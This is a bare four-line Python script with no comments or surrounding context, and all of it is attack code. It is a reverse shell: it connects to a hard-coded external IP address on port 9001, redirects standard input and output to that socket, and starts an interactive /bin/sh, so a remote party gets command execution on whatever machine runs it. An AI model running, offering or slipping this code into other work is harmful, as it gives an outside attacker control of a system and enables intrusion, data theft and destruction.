import socket, subprocess, os
s = socket.socket(); s.connect(('103.214.5.8', 9001))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
subprocess.call(['/bin/sh', '-i'])
